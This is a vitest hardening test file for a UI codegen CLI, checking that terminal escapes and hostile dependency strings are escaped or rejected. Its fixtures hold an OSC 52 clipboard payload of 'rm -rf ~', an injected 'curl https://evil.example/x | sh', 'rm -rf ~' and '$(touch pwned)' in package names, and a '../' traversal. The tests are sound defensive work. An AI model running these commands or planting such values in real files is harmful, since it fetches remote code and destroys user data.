import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { startLocalServer } from '@uibuilder-codegen/fetch/local-server';
import type { CodegenJob } from '@uibuilder-codegen/core';
import { afterAll, describe, expect, it } from 'vitest';
import type { CliRun, RunLimits } from '../cli-harness.js';
import {
  awsIdFlags,
  blogJob,
  configure,
  runHardened,
  scratchDir,
  writeJob,
} from './hardening-support.js';

const LIMITS: RunLimits = { timeoutMs: 60_000, maxOldSpaceMb: 512 };
const cleanups: (() => void)[] = [];
afterAll(() => cleanups.forEach((c) => c()));

/** OSC 52 (sets the clipboard to "rm -rf ~"), a screen clear, and a one-byte C1 CSI. */
const OSC52 = '\u001b]52;c;cm0gLXJmIH4=\u0007';
const HOSTILE = `${OSC52}\u001b[2J\u009b31m\u202e`;
/** Any character a terminal would act on, raw. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function expectNoRawControls(run: CliRun): void {
  expect(run.stdout, 'stdout holds a raw control character').not.toMatch(RAW_CONTROL);
  expect(run.stderr, 'stderr holds a raw control character').not.toMatch(RAW_CONTROL);
}

/** A job whose model, field, enum value and dependency strings carry terminal escapes. */
function hostileJob() {
  const job = configure(blogJob(), 'graphQL', 'tsx');
  const models = job.genericDataSchema.models;
  models[`Evil${HOSTILE}`] = models['Author'];
  const author = models['Author'] as { fields: Record<string, unknown> };
  author.fields[`name${HOSTILE}`] = {
    dataType: 'String',
    dataTypeValue: 'String',
    required: false,
    readOnly: false,
    isArray: false,
  };
  job['dependencies'] = [
    { name: 'aws-amplify', supportedVersion: '^6.0.0', isSemVer: true, reason: HOSTILE },
  ];
  return job;
}

describe('job strings never reach a terminal raw', () => {
  it.concurrent.each([
    ['generate', ['generate', '--dry-run'], 3],
    ['generate --verbose', ['generate', '--dry-run', '--verbose'], 3],
    ['generate --json', ['generate', '--dry-run', '--json'], 3],
    ['inspect', ['inspect'], 3],
    ['inspect --json', ['inspect', '--json'], 3],
  ] as const)('%s escapes every control character', async (_name, args, code) => {
    const dir = scratchDir(cleanups);
    const file = writeJob(dir, hostileJob());
    const run = await runHardened([...args, '--job-file', file], { cwd: dir, limits: LIMITS });
    expect(run.code, run.stderr).toBe(code);
    expectNoRawControls(run);
    expect(`${run.stdout}${run.stderr}`).toContain('\\u001b]52;c;');
    if ((args as readonly string[]).includes('--json') && run.stdout !== '') JSON.parse(run.stdout);
  });

  it.concurrent.each([['generate'], ['list-jobs --json']])(
    "%s: a failed job's statusMessage from the server is escaped",
    async (command) => {
      const job = configure(blogJob(), 'noApi', 'tsx') as unknown as CodegenJob;
      Object.assign(job, { status: 'failed', statusMessage: `Failed ${HOSTILE}` });
      const server = await startLocalServer({ jobs: [job] });
      cleanups.push(() => void server.close());
      const [name, ...flags] = command.split(' ');
      const ids = awsIdFlags(job);
      const args =
        name === 'generate'
          ? ['generate', ...ids, '--job-id', job.id ?? '', '--dry-run']
          : [name ?? '', ...ids, ...flags];
      const run = await runHardened([...args, '--endpoint', server.url], {
        cwd: scratchDir(cleanups),
        limits: LIMITS,
      });
      expect(run.code, run.stderr).toBe(name === 'generate' ? 4 : 0);
      expectNoRawControls(run);
      if (flags.includes('--json')) {
        const [entry] = JSON.parse(run.stdout) as { statusMessage: string }[];
        expect(entry?.statusMessage).toBe(`Failed ${HOSTILE}`);
      }
    },
  );
});

describe('the output guard keeps data intact', () => {
  it('generate --print keeps fields named like secrets (password: string;)', async () => {
    const dir = scratchDir(cleanups);
    const job = configure(blogJob(), 'graphQL', 'tsx');
    const author = job.genericDataSchema.models['Author'] as { fields: Record<string, unknown> };
    for (const name of ['password', 'token', 'secret'])
      author.fields[name] = {
        dataType: 'String',
        dataTypeValue: 'String',
        required: true,
        readOnly: false,
        isArray: false,
      };
    const file = writeJob(dir, job);
    const run = await runHardened(['generate', '--print', '--job-file', file], {
      cwd: dir,
      limits: LIMITS,
    });
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toContain('password: string;');
    expect(run.stdout).toContain('token: string;');
    expect(run.stdout).not.toContain('[redacted]');
  });
});

describe('doctor with hostile dependencies', () => {
  function project(): string {
    const root = scratchDir(cleanups);
    const dir = path.join(root, 'app');
    mkdirSync(dir);
    writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'app' }));
    // What a `../` name would reach: a package outside the project, "installed" in a good version.
    mkdirSync(path.join(root, 'outside'));
    writeFileSync(path.join(root, 'outside', 'package.json'), JSON.stringify({ version: '9.9.9' }));
    return dir;
  }

  it('reports invalid names and versions as invalid, never as a command, and reads nothing outside', async () => {
    const dir = project();
    const job = configure(blogJob(), 'noApi', 'tsx');
    job.renderConfig.react['dependencies'] = {};
    job['dependencies'] = [
      {
        name: 'aws-amplify',
        supportedVersion: '^6.0.0" && curl https://evil.example/x | sh && echo "',
        isSemVer: true,
        reason: `needed ${OSC52}`,
      },
      { name: 'left-pad; rm -rf ~ #', supportedVersion: '1.0.0', isSemVer: false, reason: 'x' },
      { name: '../../outside', supportedVersion: '^9.0.0', isSemVer: true, reason: 'x' },
      { name: '$(touch pwned)', supportedVersion: '1.0.0', isSemVer: false, reason: 'x' },
    ];
    const file = writeJob(dir, job);
    for (const json of [false, true]) {
      const run = await runHardened(['doctor', '--job-file', file, ...(json ? ['--json'] : [])], {
        cwd: dir,
        limits: LIMITS,
      });
      expect(run.code, run.stderr).toBe(1);
      expectNoRawControls(run);
      expect(run.stdout).not.toContain('9.9.9');
      if (json) {
        const checks = JSON.parse(run.stdout) as { ok: boolean; fix?: string; invalid?: string }[];
        expect(checks).toHaveLength(4);
        for (const check of checks) {
          expect(check.ok).toBe(false);
          expect(check.fix).toBeUndefined();
          expect(check.invalid).toMatch(/not an npm package name|not a valid semver/);
        }
      } else {
        expect(run.stdout).not.toMatch(/fix:|npm install/);
        expect(run.stdout.match(/^invalid /gm)).toHaveLength(4);
      }
    }
  });

  it.concurrent.each([
    ['package.json', '{"name": "app", '],
    ['package.json', '[]'],
    ['package-lock.json', '{"packages": '],
  ])('an invalid %s (%s) is exit 2 naming the file', async (name, text) => {
    const dir = project();
    writeFileSync(path.join(dir, name), text);
    const file = writeJob(dir, configure(blogJob(), 'noApi', 'tsx'));
    const run = await runHardened(['doctor', '--job-file', file], { cwd: dir, limits: LIMITS });
    expect(run.code, run.stderr).toBe(2);
    expect(run.stderr).toContain(`is not a valid ${name}`);
  });
});
